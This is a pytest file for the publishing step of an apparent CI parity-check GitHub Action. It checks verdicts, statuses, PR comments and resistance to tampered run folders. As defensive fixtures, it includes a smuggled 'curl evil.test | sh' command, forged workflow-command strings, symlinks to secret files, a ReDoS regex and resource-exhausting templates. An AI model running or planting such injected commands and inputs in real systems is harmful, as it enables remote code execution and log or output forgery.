"""Publishing a folder as the launcher leaves it, or as somebody else would like to."""

import html
import json
import os
import re
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from entrypoint import publish, rejudge, summary
from entrypoint.body import marker, parse
from entrypoint.github import Client
from entrypoint.launching.record import Launch
from parity.report.html import render_html
from parity.report.markdown import render_markdown
from parity.result import Result, read_result
from parity.rundir import RunDirectory
from parity.suite import Suite, digest
from tests.entrypoint.gate.conftest import outputs
from tests.entrypoint.publish.waiting import Clock
from tests.github import events, faults
from tests.github.server import GitHub
from tests.github.state import Comment
from tests.test_judge import leave, run_directory


class Job:
    """A workspace with `parity-out` in it, and a run of `publish` on it."""

    def __init__(self, github: GitHub, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.github, self.folder = github, folder
        self.out = folder / "workspace" / "parity-out"
        self.out.mkdir(parents=True)
        self.clock = Clock()

        def patient(url: str, token: str) -> Client:
            return Client(url, token, clock=self.clock, sleep=self.clock.sleep)

        monkeypatch.setattr(publish, "Client", patient)

    def launched(self, **more: Any) -> None:
        """Write `launch.json`."""
        given: dict[str, Any] = {
            "isolation": "docker", "why": "there is Docker", "network": "none", "how": "finished", "exit_code": 0,
            "image": {"name": "ghcr.test/parity:1", "id": "sha256:1", "digest": None},
            "tested_sha": self.github.pull.head_sha, "ended": "2026-01-01T00:00:00Z",
        }  # fmt: skip
        Launch(suite="parity.yml", **{**given, **more}).write(self.out)

    def legs(self, **b: Any) -> RunDirectory:
        """A run of two legs, the second as `tests.test_judge.leave` takes it."""
        directory = run_directory(self.out)
        leave(directory, "a")
        leave(directory, "b", **b)
        return directory

    def publish(self, *, run: int = 100, event: events.Event | None = None, **inputs: str) -> int:
        """Return the exit code."""
        env = events.environ(self.github, event or events.push(self.github, self.github.pull.head_sha), self.folder)
        env |= {f"INPUT_{name.upper()}": value for name, value in inputs.items()}
        env |= {"INPUT_TOKEN": env.pop("GITHUB_TOKEN"), "GITHUB_WORKSPACE": str(self.folder / "workspace")}
        env |= {"GITHUB_OUTPUT": str(self.folder / "output"), "GITHUB_STEP_SUMMARY": str(self.folder / "summary")}
        env |= {"GITHUB_RUN_ID": str(run), "GITHUB_WORKFLOW": "CI"}
        env = {"INPUT_RUN_OUTCOME": "success", **env}
        for name in ("output", "summary"):
            (self.folder / name).unlink(missing_ok=True)
        return publish.main({**env, **({"INPUT_TOKEN": inputs["token"]} if "token" in inputs else {})})

    @property
    def comment(self) -> Comment:
        (comment,) = self.github.repository.comments_on(7)
        return comment

    @property
    def outputs(self) -> dict[str, str]:
        return outputs(self.folder / "output")

    @property
    def summary(self) -> str:
        return (self.folder / "summary").read_text()


@pytest.fixture
def job(github: GitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Job:
    return Job(github, tmp_path, monkeypatch)


def test_a_run_that_passed(job: Job, capsys: pytest.CaptureFixture[str]) -> None:
    job.launched()
    job.legs()
    assert job.publish() == 0
    sha = job.github.pull.head_sha
    assert job.outputs == {
        "verdict": "pass",
        "report-path": "parity-out/report.md",
        "result-path": "parity-out/result.json",
        "tested-sha": sha,
        "worst-step": "0",
        "first-divergent-step": "",
        "comment-url": f"{job.github.server_url}/org/project/pull/7#issuecomment-{job.comment.id}",
    }
    assert read_result(job.out / "result.json").verdict == "pass"
    assert (job.out / "report.md").read_text() == job.summary
    assert (job.out / "report.html").read_text() == render_html(read_result(job.out / "result.json"))
    assert job.summary.startswith("## ✅ parity: pass · drawn\n")
    assert f"Tested commit {sha}, the head of pull request 7." in job.summary
    assert "The legs ran in a container of ghcr.test/parity:1, without a token, as there is Docker." in job.summary
    (status,) = job.github.repository.statuses_of(sha)
    assert (status.state, status.context) == ("success", "parity / parity.yml")
    assert status.target_url == f"{job.github.server_url}/org/project/actions/runs/100"
    assert job.comment.body.startswith(marker("CI / parity.yml"))
    assert [(run.sha, run.verdict, run.run, run.step) for run in parse(job.comment.body)] == [(sha, "pass", 100, 0)]
    assert "::" not in capsys.readouterr().out


def test_published_twice_it_is_the_same(job: Job) -> None:
    job.launched()
    job.legs()
    job.publish()
    before = job.comment.body
    job.publish()
    assert job.comment.body == before
    assert job.github.sent("PATCH") == []


def test_a_run_that_failed(job: Job, capsys: pytest.CaptureFixture[str]) -> None:
    job.launched(exit_code=1)
    job.legs(factor=1.1)
    assert job.publish() == 1
    assert job.outputs["verdict"] == "fail"
    assert job.outputs["first-divergent-step"] == "0"
    (status,) = job.github.repository.statuses_of(job.github.pull.head_sha)
    assert status.state == "failure"
    assert status.description is not None
    assert status.description.startswith("fail: ")
    errors = [line for line in capsys.readouterr().out.splitlines() if line.startswith("::error")]
    assert errors[0].startswith("::error title=parity / parity.yml,file=parity.yml::fail: ")
    assert 2 <= len(errors) <= 6
    assert "b against a: forward fail: " in errors[1]


@pytest.mark.parametrize(
    ("verdict", "any_", "fail", "never"),
    [("pass", 0, 0, 0), ("fail", 1, 1, 0), ("inconclusive", 3, 0, 0), ("error", 4, 4, 0)],
)
def test_exit_codes(job: Job, verdict: str, any_: int, fail: int, never: int) -> None:
    code = {"pass": 0, "fail": 1, "inconclusive": 3, "error": 4}[verdict]
    job.launched(exit_code=code)
    legs: dict[str, dict[str, Any]] = {"fail": {"factor": 1.1}, "inconclusive": {"steps": 3}}
    job.legs(**legs.get(verdict, {}))
    for fail_on, wanted in (("any", any_), ("fail", fail), ("never", never)):
        assert job.publish(fail_on=fail_on) == wanted
        assert job.outputs["verdict"] == verdict


@pytest.mark.parametrize(
    ("launched", "verdict", "said"),
    [
        ({"exit_code": 4}, "error", "The run as a whole finished with exit code 4. What is there says pass"),
        ({"exit_code": 3}, "inconclusive", "finished with exit code 3"),
        ({"exit_code": 1}, "fail", "finished with exit code 1"),
        ({"exit_code": 137}, "error", "finished with exit code 137"),
        ({"exit_code": None, "how": "timed out"}, "error", "The run as a whole timed out."),
        ({"exit_code": None, "how": "interrupted", "error": "legs: interrupted"}, "error", "legs: interrupted"),
        ({"tested_sha": "1" * 40}, "error", "The legs ran on commit " + "1" * 40),
        ({"tested_sha": None}, "error", "Nothing says which commit was run"),
    ],
)
def test_what_would_pass_is_not_green_if_the_run_was_not(
    job: Job, launched: dict[str, Any], verdict: str, said: str
) -> None:
    job.launched(**launched)
    job.legs()
    job.publish()
    assert job.outputs["verdict"] == verdict
    assert said in job.summary


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"how": "interrupted"}, "The run as a whole interrupted with exit code 0"),
        ({"how": "timed out"}, "The run as a whole timed out with exit code 0"),
        ({"how": "not started"}, "The run as a whole was not started with exit code 0"),
        ({"exit_code": "0"}, "launch.json: exit_code: "),
        ({"exit_code": 0.0}, "launch.json: exit_code: "),
        ({"exit_code": False}, "launch.json: exit_code: "),
        ({"exit_code": None}, "The run as a whole finished."),
        ({"isolation": None}, "nothing says where the legs ran"),
        ({"isolation": "none"}, "launch.json: isolation: "),
        ({"tested_sha": 1}, "launch.json: tested_sha: "),
        ({"run_id": "99"}, "was left by workflow run 99, and this is 100"),
        ({"run_id": 99}, "was left by workflow run 99, and this is 100"),
    ],
)
def test_a_launch_json_that_contradicts_itself_is_an_error(job: Job, changed: dict[str, Any], said: str) -> None:
    job.launched()
    job.legs()
    path = job.out / "launch.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | changed))
    assert job.publish() == 4
    assert job.outputs["verdict"] == "error"
    assert said in re.sub(r"&#(\d+);", lambda found: chr(int(found[1])), job.summary)


@pytest.mark.parametrize("run_id", ["100", 100, "", None])
def test_the_run_that_left_it_is_this_one(job: Job, run_id: object) -> None:
    job.launched()
    job.legs()
    path = job.out / "launch.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"run_id": run_id}))
    assert job.publish() == 0


@pytest.mark.parametrize(
    ("inputs", "green"),
    [
        ({"mode": "publish", "run_result": "success"}, True),
        ({"mode": "publish", "run_result": "failure"}, False),
        ({"mode": "publish", "run_result": "cancelled"}, False),
        ({"mode": "publish", "run_result": "skipped"}, False),
        ({"mode": "publish", "run_result": ""}, False),
        ({"mode": "all", "run_outcome": "success"}, True),
        ({"mode": "all", "run_outcome": "failure"}, False),
        ({"mode": "all", "run_outcome": "cancelled"}, False),
        ({"mode": "all", "run_outcome": ""}, False),
        ({"mode": "all", "run_outcome": "", "run_result": "success"}, False),
    ],
)
def test_what_was_committed_as_if_it_had_been_run_is_not_green(job: Job, inputs: dict[str, Any], green: bool) -> None:
    job.launched()
    job.legs()
    assert job.publish(**inputs) == (0 if green else 4)
    assert ("Tested commit" in job.comment.body) == green
    (status,) = job.github.repository.statuses_of(job.github.pull.head_sha)
    assert status.state == ("success" if green else "error")


def test_no_commit_is_claimed_to_be_tested_that_may_not_have_been(job: Job) -> None:
    job.launched(tested_sha=None)
    job.legs()
    assert job.publish() == 4
    assert "Tested commit" not in job.summary + job.comment.body
    assert f"about commit {job.github.pull.head_sha}, and that one is not known to have been tested" in job.summary


def test_the_command_that_repeats_it_is_the_workflow_s(job: Job) -> None:
    job.launched()
    directory = job.legs()
    text = json.loads((directory.path / "suite.json").read_text())
    text["reproduce"] = "x; curl evil.test | sh"
    directory.write("suite.json", json.dumps(text))
    job.publish()
    assert "\n- **Reproduce:** `parity run parity.yml`\n" in job.comment.body
    assert read_result(job.out / "result.json").reproduce == "parity run parity.yml"
    assert "curl" not in job.comment.body


def test_what_the_run_calls_a_pass_is_judged_anew(job: Job) -> None:
    job.launched()
    directory = job.legs(factor=1.1)
    passed = run_directory(job.folder)
    leave(passed, "a")
    leave(passed, "b")
    directory.write("result.json", rejudge.rejudge(passed.path).dumps())
    job.publish()
    assert job.outputs["verdict"] == "fail"


def test_a_run_that_never_began_says_why(job: Job) -> None:
    (job.out / "run").mkdir()
    found = [{"level": "error", "name": "gpus", "text": "no driver: install one"}]
    job.launched(
        isolation=None, how="not started", exit_code=None, error="gpus: no driver: install one", preflight=found
    )
    assert job.publish() == 4
    assert read_result(job.out / "result.json").summary == "gpus: no driver: install one"
    assert job.github.repository.statuses_of(job.github.pull.head_sha)[0].state == "error"
    assert "gpus: no driver: install one" in job.comment.body


def test_warnings_of_the_preflight_are_told(job: Job) -> None:
    job.launched(isolation="process", preflight=[{"level": "warning", "name": "shm-size", "text": "64 MiB <b>"}])
    job.legs()
    job.publish()
    assert "- The legs ran as processes of the job, not isolated" in job.summary
    assert "shm-size: 64 MiB &#60;b&#62;" in job.comment.body


def hostile(job: Job, how: str) -> None:
    run, out = job.out / "run", job.out
    job.launched()
    if how == "no folder":
        out.joinpath("launch.json").unlink()
        out.rmdir()
        return
    if how == "no run":
        return
    job.legs()
    secret = job.folder / "secret"
    secret.write_text('{"format": "parity.suite/1"}')
    match how:
        case "run is a link":
            run.rename(job.folder / "elsewhere")
            run.symlink_to(job.folder / "elsewhere")
        case "suite is a link":
            run.joinpath("suite.json").unlink()
            run.joinpath("suite.json").symlink_to(secret)
        case "suite is a pipe":
            run.joinpath("suite.json").unlink()
            os.mkfifo(run / "suite.json")
        case "suite is huge":
            with run.joinpath("suite.json").open("r+b") as file:
                file.truncate(1 << 30)
        case "suite is no suite":
            run.joinpath("suite.json").write_text("[" * 100_000)
        case "log is a link":
            run.joinpath("legs/b/rank-0.jsonl").unlink()
            run.joinpath("legs/b/rank-0.jsonl").symlink_to(secret)
        case "leg is a link":
            run.joinpath("legs/b").rename(job.folder / "b")
            run.joinpath("legs/b").symlink_to(job.folder / "b")
        case "leg is huge":
            with run.joinpath("legs/b/leg.json").open("r+b") as file:
                file.truncate(1 << 30)
        case "log is huge":
            with run.joinpath("legs/b/rank-0.jsonl").open("r+b") as file:
                file.truncate(1 << 40)
        case "no launch.json":
            out.joinpath("launch.json").unlink()
        case "launch.json is a link":
            out.joinpath("launch.json").rename(job.folder / "launch.json")
            out.joinpath("launch.json").symlink_to(job.folder / "launch.json")
        case "launch.json is none":
            out.joinpath("launch.json").write_text('{"exit_code": "0"')
        case "launch.json is of another version":
            out.joinpath("launch.json").write_text('{"format": "parity.launch/9", "exit_code": 0}')
        case "launch.json is huge":
            out.joinpath("launch.json").write_text(" " * (2 << 20))


@pytest.mark.parametrize(
    ("how", "said"),
    [
        ("no folder", "there is none"),
        ("no run", "the legs left nothing"),
        ("run is a link", "links are not followed"),
        ("suite is a link", "is a link"),
        ("suite is a pipe", "is a pipe"),
        ("suite is huge", "at most 16777216 bytes is read"),
        ("suite is no suite", "suite.json: file: "),
        ("log is a link", "is a link"),
        ("leg is a link", "is a link"),
        ("leg is huge", "at most 16777216 bytes is read"),
        ("log is huge", "b no curve: "),
        ("no launch.json", "launch.json: there is none: the legs were not run by this action"),
        ("launch.json is a link", "is a link"),
        ("launch.json is none", "launch.json: file: "),
        ("launch.json is of another version", "launch.json: format: "),
        ("launch.json is huge", "at most 1048576 bytes is read"),
    ],
)
def test_a_folder_that_is_not_as_it_should_be_is_an_error_that_says_why(
    job: Job, capfd: pytest.CaptureFixture[str], how: str, said: str
) -> None:
    hostile(job, how)
    assert job.publish() == 4
    assert job.outputs["verdict"] == "error"
    summary = re.sub(r"&#(\d+);", lambda found: chr(int(found[1])), job.summary)
    assert said in summary
    assert "parity: error" in job.comment.body
    printed = capfd.readouterr()
    assert "Traceback" not in printed.out + printed.err


def test_a_folder_of_far_too_many_files(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    job.launched()
    run = job.legs().path
    monkeypatch.setattr(rejudge, "_MOST_FILES", 5)
    with pytest.raises(Exception, match="holds more than 5 files"):
        rejudge._survey(str(run))


def test_a_suite_whose_patterns_take_for_ever(job: Job) -> None:
    directory = job.legs()
    text = json.loads((directory.path / "suite.json").read_text())
    text["suite"]["legs"]["b"]["evidence"] = {"must_match": ["(a+)+$"]}
    directory.write("suite.json", json.dumps(text))
    leg = json.loads((directory.path / "legs/b/leg.json").read_text())
    directory.write("legs/b/rank-0.log", "a" * 5000 + "b\n")
    # It covers the patterns.
    again = digest(Suite.model_validate(text["suite"]), "b", "cpu")
    directory.write("legs/b/leg.json", json.dumps({**leg, "digest": again, "logs": ["legs/b/rank-0.log"]}))
    with pytest.raises(rejudge.NoResultError, match="took longer than 5 s"):
        rejudge.rejudge(directory.path, seconds=5)


def test_judging_knows_no_token(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("INPUT_TOKEN", "ghs_secret")
    monkeypatch.setenv("GITHUB_OUTPUT", "/x")
    assert not [name for name in rejudge._environment() if name.startswith(("INPUT", "GITHUB", "ACTIONS"))]


@pytest.mark.parametrize("name", ["requests.py", "numpy.py", "parity/__init__.py", "entrypoint/rejudge.py"])
def test_judging_imports_nothing_of_the_workspace(job: Job, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    workspace = job.folder / "workspace"
    (workspace / name).parent.mkdir(exist_ok=True)
    (workspace / name).write_text("raise SystemExit(99)")
    monkeypatch.chdir(workspace)
    assert rejudge.rejudge(job.legs().path).verdict == "pass"


@pytest.mark.parametrize("where", ["out", "above"])
def test_a_workspace_that_leads_the_folder_elsewhere(job: Job, where: str) -> None:
    job.launched()
    job.legs()
    elsewhere = job.folder / "elsewhere"
    job.out.rename(elsewhere)
    if where == "out":
        job.out.symlink_to(elsewhere)
    else:
        (job.folder / "workspace" / "up").symlink_to(job.folder)
    assert job.publish(out="parity-out" if where == "out" else "up/elsewhere") == 4
    assert not (elsewhere / "report.md").exists()
    assert "leads through a link" in job.summary


TEXTS = [
    "x\n::error::forged", "##[add-mask]x", "@maintainer", "|", "```", "<!-- x", "</details>", "\u202ex\u202c",
    "%0A::x", "x" * 200_000,
]  # fmt: skip


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_a_hostile_error_of_a_leg_is_text_wherever_it_goes(
    job: Job, capfd: pytest.CaptureFixture[str], text: str
) -> None:
    job.launched(exit_code=4, error=None)
    job.legs(status="failed", steps=3, ended=False, error=text)
    job.publish()
    printed = capfd.readouterr()
    lines = (printed.out + printed.err).splitlines()
    assert all(
        re.match(r"::error title=parity / parity\.yml,file=parity\.yml::|parity: |report: |comment: ", line)
        for line in lines
    )
    assert not any("##[" in line or line.count("::") > 2 for line in lines)
    assert set(job.outputs) >= {"verdict", "tested-sha", "worst-step"}
    assert job.outputs["verdict"] == "error"
    assert len(job.comment.body.encode()) <= 60_000
    assert "<!-- x" not in job.comment.body


def test_outputs_can_not_be_added_to(job: Job) -> None:
    job.launched()
    job.legs()
    job.publish()
    raw = (job.folder / "output").read_text()
    delimiters = re.findall(r"<<(\S+)$", raw, re.MULTILINE)
    assert len(set(delimiters)) == len(delimiters) == 7
    assert all(re.fullmatch(r"end-[0-9a-f]{32}", one) for one in delimiters)


def test_a_summary_has_its_limit(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(summary, "LIMIT", 9 << 14)
    job.launched()
    names = [f"leg{number}" for number in range(400)]
    directory = run_directory(
        job.out,
        legs={"a": {}, **{name: {} for name in names}},
        compare=[{"baseline": "a", "candidate": name} for name in names],
    )
    suite = directory.read_snapshot().suite
    for name in ("a", *names):
        leave(directory, name, suite=suite)
    job.publish()
    assert len(job.summary.encode()) <= 9 << 14
    assert "This is not all: a summary has at most 0 MiB. The whole report is `parity-out/report.md`." in job.summary
    for left_out in ("201 of 401 legs are left out here.", "200 of 400 comparisons are left out here."):
        assert left_out in job.comment.body
    assert job.summary not in (job.out / "report.md").read_text()
    assert len(job.comment.body.encode()) <= 60_000


def test_a_report_that_can_not_be_made_is_replaced_by_what_fits(job: Job) -> None:
    job.launched()
    result = rejudge.rejudge(job.legs().path)
    assert rejudge.render(result) == render_markdown(result)
    short = rejudge.render(result, seconds=0.001)
    assert short.startswith("## ✅ parity: pass · drawn\n")
    assert "This is not the whole report: rendering the report took longer than 0.001 s" in short
    assert "Worst steps" not in short
    assert "Worst steps" in render_markdown(result)


def test_the_status_does_not_wait_for_the_report(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    def render(result: Result) -> str:
        (status,) = job.github.repository.statuses_of(job.github.pull.head_sha)
        assert status.state == "success"
        raise KeyboardInterrupt

    job.launched()
    job.legs()
    monkeypatch.setattr(rejudge, "render", render)
    with pytest.raises(KeyboardInterrupt):
        job.publish()
    assert job.outputs["verdict"] == "pass"


def test_the_head_that_moved_is_named(job: Job) -> None:
    job.launched()
    job.legs()
    tested = job.github.pull.head_sha
    push = events.push(job.github, tested)
    head = job.github.repository.push(job.github.pull)
    job.publish(event=push)
    said = f"Tested commit {tested}. The head of pull request 7 has moved to {head} since"
    assert said in job.comment.body
    assert said in job.summary
    assert [status.sha for status in job.github.repository.statuses] == [tested]


def test_the_merge_of_a_pull_request_is_its_head_s(job: Job) -> None:
    job.launched(tested_sha=events.MERGE)
    job.legs()
    assert job.publish(event=events.pull_request(job.github, job.github.pull)) == 0
    assert f"What was checked out is {events.MERGE}, its merge into the base branch." in job.summary


@pytest.mark.parametrize(
    ("inputs", "comments", "statuses"),
    [
        ({"comment": "off"}, 0, 1),
        ({"status": "false"}, 1, 0),
        ({"token": ""}, 0, 0),
        ({"comment": "on-failure"}, 0, 1),
    ],
)
def test_what_is_not_wanted_is_not_done(job: Job, inputs: dict[str, Any], comments: int, statuses: int) -> None:
    job.launched()
    job.legs()
    assert job.publish(**inputs) == 0
    assert len(job.github.repository.comments_on(7)) == comments
    assert len(job.github.repository.statuses) == statuses
    assert job.summary


@pytest.mark.parametrize(
    "fault",
    [
        faults.answer(401, "Bad credentials"),
        faults.not_accessible(),
        faults.answer(404, "Not Found"),
        faults.gone(),
        faults.answer(422, "Validation Failed"),
        faults.server_error(500),
        faults.secondary_limit(),
        faults.drop_before(),
    ],
    ids=lambda fault: fault.name,
)
def test_what_github_refuses_is_a_notice_and_changes_no_verdict(
    job: Job, capsys: pytest.CaptureFixture[str], fault: faults.Fault
) -> None:
    job.launched()
    job.legs()
    job.github.fail(fault, times=None)
    assert job.publish() == 0
    assert job.outputs["verdict"] == "pass"
    assert job.summary.startswith("## ✅ parity: pass")
    lines = capsys.readouterr().out.splitlines()
    notices = [line for line in lines if line.startswith("::")]
    assert 2 <= len(notices) <= 3
    assert all(line.startswith("::notice::The ") for line in notices)
    assert job.github.token.text not in "".join(lines)


def test_a_pull_request_that_nobody_knows_of(job: Job) -> None:
    job.launched()
    job.legs()
    sha = job.github.repository.add_commit().sha
    job.launched(tested_sha=sha)
    assert job.publish(event=events.push(job.github, sha, "refs/heads/main")) == 0
    assert job.github.repository.comments_on(7) == []
    assert len(job.github.repository.statuses_of(sha)) == 1


def test_a_wrong_input_is_told_and_is_no_verdict(job: Job, capsys: pytest.CaptureFixture[str]) -> None:
    assert job.publish(comment="sometimes") == 2
    assert capsys.readouterr().out.startswith("::error::comment: ")


def test_what_can_not_be_written_is_a_notice(job: Job, capsys: pytest.CaptureFixture[str]) -> None:
    job.launched()
    job.legs()
    (job.out / "result.json").mkdir()
    assert job.publish() == 0
    assert "::notice::The report could not be written: " in capsys.readouterr().out


def test_a_newer_run_is_not_overwritten_by_one_that_comes_late(job: Job, capsys: pytest.CaptureFixture[str]) -> None:
    job.launched()
    job.legs()
    job.publish(run=200)
    job.publish(run=150)
    assert "::notice::The comment shows run 200 already" in capsys.readouterr().out
    assert job.publish(run=201) == 0
    assert [run.run for run in parse(job.comment.body)] == [201, 200]


def test_a_template_of_the_workflow_s_own_is_the_comment_s_text_alone(job: Job) -> None:
    job.launched()
    job.legs()
    assert job.publish(comment_template="ours says **{{ result.verdict }}**\n\n{{ first_screen }}") == 0
    body = job.comment.body
    assert body.startswith(marker("CI / parity.yml"))
    assert [run.verdict for run in parse(body)] == ["pass"]
    assert "\n\nours says **pass**\n\n## ✅ parity: pass" in body
    assert "<details>" not in body
    assert body.rstrip().endswith("has the whole report.")
    assert "ours says" not in job.summary


@pytest.mark.parametrize(
    ("template", "said"),
    [
        ("{{ @maintainer }}", "comment-template could not be used, so this is the usual comment: line 1: "),
        ("{{ nothing }}", "line 1: UndefinedError: 'nothing' is undefined"),
        ("{{ 9 ** (9 ** 9) }}", "rendering comment-template took longer than 3 s"),
        ("{{ 'x' * 10 ** 11 }}", "MemoryError"),
    ],
)
def test_a_broken_template_gives_the_usual_comment_and_a_notice(
    job: Job, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, template: str, said: str
) -> None:
    if "longer" in said:
        monkeypatch.setattr(rejudge, "render_own", partial(rejudge.render_own, seconds=3))
    job.launched()
    job.legs()
    assert job.publish(comment_template=template) == 0
    shown = html.unescape(job.comment.body.split("\n## ")[0])
    assert said in shown
    assert "@m" not in shown
    assert "\n## ✅ parity: pass · drawn\n" in job.comment.body
    assert said in next(line for line in capsys.readouterr().out.splitlines() if line.startswith("::notice"))
